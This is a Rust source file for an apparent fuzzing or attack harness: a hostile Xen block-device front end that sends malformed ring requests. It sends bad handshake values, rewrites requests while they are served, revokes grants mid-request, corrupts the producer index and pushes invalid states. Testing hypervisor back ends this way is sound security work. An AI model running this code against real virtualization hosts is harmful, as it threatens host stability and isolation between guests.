//! A front end of blkif that breaks its own ring.

use pv_guest_lib::abi::blkif::{BlkOp, SLOT_SIZE};
use pv_guest_lib::abi::evtchn::EvtchnOp;
use pv_guest_lib::abi::grant::GTF_PERMIT_ACCESS;
use pv_guest_lib::abi::ring;

use crate::Attacker;
use crate::events::operation;
use crate::grants::table;
use crate::random::ODD;
use crate::rings::notify;
use crate::store::{Connection, number};
use crate::sys::Scratch;

/// References of the ring, the data pages and the indirect page; their pages in the scratch memory follow this one.
const FIRST: u64 = 32;
const PAGES: u64 = 96;
const GRANTED: u64 = 16;

/// A front end in the hands of the attack.
struct Front {
    store: Connection,
    port: u64,
    producer: u32,
}

/// Connects, sends requests of every wrong kind, breaks the ring, and does it all again.
pub fn run(attacker: &mut Attacker) -> u64 {
    let Some(store) = Connection::open() else { return u64::MAX };
    let Some(table) = table(attacker.scratch) else { return u64::MAX - 1 };
    let mut front = Front { store, port: 0, producer: 0 };
    let mut answers = 0;
    for round in 0..3 {
        if !front.connect(attacker, table, round) {
            return answers | 0xDEAD << 32 | round << 48;
        }
        answers += front.wrong_requests(attacker, table);
        let producer = [33, 1000, 0x8000_0000, u32::MAX][attacker.random.index(4)];
        let page = attacker.scratch;
        page.set32(PAGES * 4096 + ring::REQ_PROD as u64, front.producer.wrapping_add(producer));
        notify(attacker, front.port);
        crate::wait(50);
        front.say(attacker, b"5");
        crate::wait(100);
        front.say(attacker, b"6");
        crate::wait(100);
        front.say(attacker, b"1");
        operation(attacker.scratch, EvtchnOp::Close, 0, [front.port, 0, 0]);
        crate::wait(200);
    }
    // The first of these is the end of the device.
    for state in [&b"0"[..], b"99", b"", b"\xFF", b"3", b"4"] {
        front.say(attacker, state);
    }
    answers
}

impl Front {
    fn write(&self, attacker: &Attacker, key: &[u8], value: &[u8]) -> bool {
        self.store.write(attacker, b"device/vbd/51712/", key, value)
    }

    fn say(&self, attacker: &Attacker, state: &[u8]) {
        self.write(attacker, b"state", state);
    }

    /// The handshake of XenBus, with garbage first when `round` is odd.
    fn connect(&mut self, attacker: &mut Attacker, table: Scratch, round: u64) -> bool {
        let scratch = attacker.scratch;
        for page in 0..GRANTED {
            let frame = (scratch.base() >> 12) + PAGES + page;
            table.set((FIRST + page) * 8, u64::from(GTF_PERMIT_ACCESS) | frame << 32);
            for offset in (0..4096).step_by(8) {
                scratch.set((PAGES + page) * 4096 + offset, 0);
            }
        }
        if round == 1 {
            for (key, value) in [(&b"ring-ref"[..], &b"4294967296"[..]), (b"event-channel", b"-1"), (b"state", b"3")] {
                self.write(attacker, key, value);
            }
            crate::wait(200);
            for state in [&b"4"[..], b"5", b"6", b"1"] {
                self.say(attacker, state);
                crate::wait(50);
            }
            crate::wait(200);
        }
        if operation(scratch, EvtchnOp::AllocUnbound, 0, [0x7FF0, 0, 0]) != 0 {
            return false;
        }
        self.port = scratch.get(0) >> 32;
        self.producer = 0;
        scratch.set32(PAGES * 4096 + ring::REQ_EVENT as u64, 1);
        scratch.set32(PAGES * 4096 + ring::RSP_EVENT as u64, 1);
        let mut digits = [0; 5];
        let written = self.write(attacker, b"ring-ref", b"32")
            && self.write(attacker, b"event-channel", number(self.port, &mut digits))
            && self.write(attacker, b"protocol", b"arm-abi")
            && self.write(attacker, b"feature-persistent", b"1");
        self.say(attacker, b"3");
        crate::wait(300);
        self.say(attacker, b"4");
        crate::wait(100);
        written
    }

    /// Requests that are each wrong in some way, a few at a time; returns how many were answered.
    fn wrong_requests(&mut self, attacker: &mut Attacker, table: Scratch) -> u64 {
        let scratch = attacker.scratch;
        for round in 0..150u64 {
            for _ in 0..8 {
                let at = PAGES * 4096 + ring::slot_offset(self.producer, 32, SLOT_SIZE) as u64;
                let operation = attacker.random.pick(&[0, 1, 2, 3, 4, 5, 6, 7, 255]);
                let segments = attacker.random.pick(&[0, 1, 2, 11, 12, 255]);
                let sector = attacker.random.pick(&[0, 1, 32767, 32768, 1 << 40, u64::MAX, u64::MAX - 7]);
                let mut head = operation | segments << 8;
                if operation == u64::from(BlkOp::Indirect.raw()) {
                    let count = attacker.random.pick(&[0, 1, 12, 256, 257, 4096, 0xFFFF]);
                    head = operation | attacker.random.below(8) << 8 | count << 16;
                }
                scratch.set(at, head);
                scratch.set(at + 8, attacker.random.pick(&ODD));
                scratch.set(at + 16, sector);
                for segment in 0..11 {
                    let gref = FIRST + attacker.random.below(GRANTED + 2);
                    let (first, last) = (attacker.random.below(10), attacker.random.below(10));
                    scratch.set(at + 24 + segment * 8, gref | first << 32 | last << 40);
                }
                if operation == u64::from(BlkOp::Indirect.raw()) {
                    // The indirect page is one of the data pages, and at times the ring itself.
                    scratch.set(at + 24, (FIRST + attacker.random.below(GRANTED)) << 32);
                }
                self.producer = self.producer.wrapping_add(1);
            }
            for offset in (0..4096).step_by(8) {
                let gref = attacker.random.pick(&[FIRST + 2, FIRST + 3, 0, 1, 500, 0xFFFF_FFFF]);
                scratch.set((PAGES + 1) * 4096 + offset, gref | attacker.random.below(1 << 16) << 32);
            }
            scratch.set32(PAGES * 4096 + ring::REQ_PROD as u64, self.producer);
            notify(attacker, self.port);
            // While they are served: the requests change, and a grant ends.
            for _ in 0..50 {
                let offset = PAGES * 4096 + 64 + attacker.random.below(4000 / 8) * 8;
                scratch.set(offset, attacker.random.next());
            }
            table.set((FIRST + 2 + round % 8) * 8, 0);
            if !self.settle(attacker) {
                break;
            }
            let frame = (scratch.base() >> 12) + PAGES + 2 + round % 8;
            table.set((FIRST + 2 + round % 8) * 8, u64::from(GTF_PERMIT_ACCESS) | frame << 32);
        }
        u64::from(scratch.get32(PAGES * 4096 + ring::RSP_PROD as u64))
    }

    /// Waits until all requests are answered; false if that takes more than half a second.
    fn settle(&self, attacker: &Attacker) -> bool {
        for _ in 0..500 {
            if attacker.scratch.get32(PAGES * 4096 + ring::RSP_PROD as u64) == self.producer {
                return true;
            }
            crate::wait(1);
        }
        false
    }
}
